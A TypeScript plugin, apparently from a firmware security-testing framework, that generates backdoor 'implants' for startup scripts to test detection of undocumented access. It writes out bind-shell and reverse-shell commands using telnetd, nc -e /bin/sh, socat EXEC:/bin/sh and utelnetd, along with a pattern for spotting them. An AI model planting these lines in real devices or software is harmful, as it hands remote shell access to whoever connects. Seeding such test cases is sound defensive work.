import type { Implant } from '#domain/plugin';
import { foreignHost, foreignPort, vehiclesOf } from '#engine/ground/vehicles';

/** Shell for whoever connects. */
export const startupShell: Implant = {
  kind: 'implant',
  id: 'startup-shell',
  version: 1,
  doc: {
    name: 'Shell for whoever connects',
    says: 'A shell that a listener hands to whoever connects, or that connects to somebody by itself: started with the system, by the clock or on an event. Only programs that the target has are used.',
    sources: ['telnetd(8) of BusyBox and netkit; nc(1); socat(1)', 'TS 33.117 4.3.2.1'],
    limits: [
      'Shells inside compiled programs and on serial lines are not planted.',
      'The root file system is taken to be writable at start-up; what only a test, a loop or a variable leads to carries no plant.',
    ],
  },
  question: 'undocumented-access',
  templates: vehiclesOf({
    ways: [
      (site, level, draw) =>
        site.has('telnetd')
          ? [`telnetd -p ${foreignPort(level, draw)} -l ${level === 'overt' ? '/bin/sh' : '/bin/ash'}`]
          : null,
      (site, level, draw) => (site.has('nc') ? [`nc -l -p ${foreignPort(level, draw)} -e /bin/sh &`] : null),
      (site, level, draw) =>
        site.has('socat')
          ? [`socat TCP-LISTEN:${foreignPort(level, draw)},reuseaddr,fork EXEC:/bin/sh &`]
          : null,
      (site, level, draw) =>
        site.has('nc')
          ? [`nc ${foreignHost(site, level, draw)} ${foreignPort(level, draw)} -e /bin/sh &`]
          : null,
      (site, level, draw) =>
        site.has('utelnetd') ? [`utelnetd -l /bin/sh -p ${foreignPort(level, draw)} -d`] : null,
    ],
    isDone: ({ started }) =>
      started.some(
        ({ program, words }) =>
          /^(?:u?telnetd|nc|socat)$/.test(program) && words.some((word) => /\/(?:ba|da|a)?sh$/.test(word)),
      ),
  }),
};
